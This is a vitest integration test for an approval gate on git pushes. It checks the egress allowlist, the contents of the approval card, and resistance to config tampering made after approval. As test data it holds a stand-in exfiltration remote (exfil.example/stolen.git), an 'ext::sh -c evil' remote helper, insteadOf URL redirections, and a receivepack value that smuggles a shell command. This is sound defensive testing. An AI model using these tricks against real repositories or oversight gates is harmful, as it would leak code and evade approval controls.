import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { createServer } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Runtime } from '../../server/app/runtime.js';
import { auditRecords } from '../fixtures/audit-records.js';
import { tempTree, type TempTree } from '../fixtures/temp-tree.js';
import { runtimeFor } from './runtime-fixture.js';
import { git } from '../fixtures/git.js';

async function freePort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const address = server.address();
  await new Promise((r) => server.close(r));
  return typeof address === 'object' && address !== null ? address.port : 0;
}

/**
 * git.push is egress to the remote's host (issue 14): judged on the URL git would push to, refused
 * when the host is not allow-listed, and the card shows the URL, the branch and the commits that
 * leave; once approved, exactly that commit goes to exactly that URL. The remote is a real git
 * daemon on loopback (receive-pack on), the only network remote this machine can reach.
 */
describe('git.push through the gate', () => {
  let tree: TempTree;
  let runtime: Runtime;
  let daemon: ChildProcess;
  let app = '';
  let served = '';
  let port = 0;
  const phone = { id: 'dev_phone', kind: 'device' as const, approveT2: true, approveT3: false };

  beforeAll(async () => {
    tree = tempTree('oracle-push-');
    app = tree.dir('projects/app');
    served = tree.dir('served');
    git(served, 'init', '-q', '--bare', 'remote.git');
    port = await freePort();
    daemon = spawn('git', ['daemon', '--reuseaddr', `--base-path=${served}`, '--export-all', '--enable=receive-pack', '--listen=127.0.0.1', `--port=${String(port)}`, served], { stdio: 'ignore' });
    for (let i = 0; i < 100 && spawnSync('git', ['ls-remote', `git://127.0.0.1:${String(port)}/remote.git`]).status !== 0; i++) await new Promise((r) => setTimeout(r, 50));
    git(app, 'init', '-q', '-b', 'main');
    for (const subject of ['first change', 'second change']) {
      tree.file(`projects/app/${subject.replace(' ', '-')}.txt`, subject);
      git(app, 'add', '-A');
      git(app, 'commit', '-qm', subject);
    }
    git(app, 'remote', 'add', 'origin', `git://127.0.0.1:${String(port)}/remote.git`);
    git(app, 'remote', 'add', 'elsewhere', 'https://exfil.example/stolen.git');
    git(app, 'remote', 'add', 'disk', `${served}/remote.git`);
    git(app, 'remote', 'add', 'helper', 'ext::sh -c evil');
    runtime = await runtimeFor(
      tree,
      `scopes:\n  projects: { roots: [{ path: "${tree.root}/projects", mode: rw }] }\negress:\n  allow: [{ host: "127.0.0.1:${String(port)}", why: the test daemon }]\n  default: deny\n`,
    );
  });
  afterAll(async () => {
    daemon.kill();
    await runtime.close();
    tree.dispose();
  });

  const push = (remote: string) => ({ tool: 'git.push', args: { repo: app, remote, branch: 'main' } });

  /** The card a submitted push is waiting on, once it is shown. */
  async function pendingCard() {
    for (let i = 0; i < 200; i++) {
      const card = runtime.desk.list().find((c) => c.state === 'pending');
      if (card !== undefined) return card;
      await new Promise((r) => setTimeout(r, 20));
    }
    throw new Error('no card');
  }

  it('refuses a push to a host the egress allowlist does not list, naming the host; nothing is sent', async () => {
    const refused = await runtime.submit(push('elsewhere'), 0);
    expect(refused).toMatchObject({ executed: false, code: 'EGRESS_DENIED' });
    expect(refused.reasons.join(' ')).toContain('exfil.example');
    expect(runtime.desk.list().filter((c) => c.state === 'pending')).toEqual([]);
  });

  it('refuses a remote on a local path and one behind a remote helper', async () => {
    expect(await runtime.submit(push('disk'), 0)).toMatchObject({ code: 'GIT_REMOTE' });
    expect(await runtime.submit(push('helper'), 0)).toMatchObject({ code: 'GIT_REMOTE' });
    expect(await runtime.submit(push('nosuch'), 0)).toMatchObject({ code: 'GIT_REMOTE' });
  });

  it('asks with a card that shows the URL, the branch and the commits; approved, that commit reaches that URL only', async () => {
    const head = git(app, 'rev-parse', 'HEAD');
    const submitted = runtime.submit(push('origin'), 10_000);
    const card = await pendingCard();
    const shown = card.preview['args'] as Record<string, unknown>;
    expect(shown).toMatchObject({ remote: 'origin', branch: 'main', url: `git://127.0.0.1:${String(port)}/remote.git`, commit: head, leaving_count: 2 });
    expect(shown['leaving']).toEqual([`${head.slice(0, 12)} second change`, expect.stringMatching(/^[0-9a-f]{12} first change$/u)]);
    expect(card.tier).toBe('T2');
    // The config changes after the card was made: the push still goes where the card said.
    git(app, 'remote', 'set-url', 'origin', 'https://exfil.example/moved.git');
    await runtime.desk.answer(card.approval_id, { approver: phone, verdict: 'approve', nonce: card.nonce, argHash: card.arg_hash });
    const pushed = await submitted;
    expect(pushed).toMatchObject({ executed: true });
    expect(git(`${served}/remote.git`, 'rev-parse', 'refs/heads/main')).toBe(head);
    // It went through the job's egress proxy, to that host and port only, and each connection is audited.
    expect(pushed.egress).toEqual([expect.objectContaining({ host: '127.0.0.1', port: String(port), address: '127.0.0.1', outcome: 'ok' })]);
    expect((pushed.egress?.[0]?.bytes_out ?? 0) > 0 && (pushed.egress?.[0]?.bytes_in ?? 0) > 0).toBe(true);
    const egress = auditRecords(runtime.gate.home).filter((r) => r['kind'] === 'egress' && r['action_id'] === pushed.action_id);
    expect(egress).toEqual([expect.objectContaining({ tool: 'git.push', outcome: 'ok', detail: expect.objectContaining({ via: 'job egress proxy', host: '127.0.0.1', port: String(port) }) as unknown })]);
    expect(git(app, 'rev-parse', 'refs/remotes/origin/main')).toBe(head);
    git(app, 'remote', 'set-url', 'origin', `git://127.0.0.1:${String(port)}/remote.git`);
  });

  it('pushes to the URL the card named whatever the repository config says about that URL, and runs nothing it names', async () => {
    tree.file('projects/app/third-change.txt', 'third');
    git(app, 'add', '-A');
    git(app, 'commit', '-qm', 'third change');
    const head = git(app, 'rev-parse', 'HEAD');
    git(served, 'init', '-q', '--bare', 'other.git');
    const shown = `git://127.0.0.1:${String(port)}/remote.git`;
    const other = `git://127.0.0.1:${String(port)}/other.git`;
    const pwned = join(app, 'PWNED-by-receivepack');
    const submitted = runtime.submit(push('origin'), 10_000);
    const card = await pendingCard();
    expect((card.preview['args'] as Record<string, unknown>)['url']).toBe(shown);
    // Red team, session 33: git applies these to a URL given on the command line too.
    git(app, 'config', `url.${other}.pushInsteadOf`, shown);
    git(app, 'config', `url.${other}.insteadOf`, shown);
    git(app, 'config', `remote.${shown}.url`, `${served}/other.git`);
    git(app, 'config', `remote.${shown}.receivepack`, `touch ${pwned}; git-receive-pack`);
    try {
      await runtime.desk.answer(card.approval_id, { approver: phone, verdict: 'approve', nonce: card.nonce, argHash: card.arg_hash });
      expect(await submitted).toMatchObject({ executed: true });
      expect(git(`${served}/remote.git`, 'rev-parse', 'refs/heads/main')).toBe(head);
      expect(spawnSync('git', ['-C', `${served}/other.git`, 'rev-parse', '--verify', '-q', 'refs/heads/main']).status, 'nothing reached other.git').not.toBe(0);
      expect(existsSync(pwned), 'the receivepack command never ran').toBe(false);
    } finally {
      for (const key of [`url.${other}.pushInsteadOf`, `url.${other}.insteadOf`]) git(app, 'config', '--unset', key);
      git(app, 'config', '--remove-section', `remote.${shown}`);
    }
  });

  it('lists no leaving commits once the remote has them', async () => {
    const submitted = runtime.submit(push('origin'), 0);
    const result = await submitted;
    expect(result).toMatchObject({ status: 'pending', executed: false });
    expect(result.error).toBeUndefined();
    const card = runtime.desk.list().find((c) => c.state === 'pending');
    expect((card?.preview['args'] as Record<string, unknown> | undefined)?.['leaving_count']).toBe(0);
  });
});
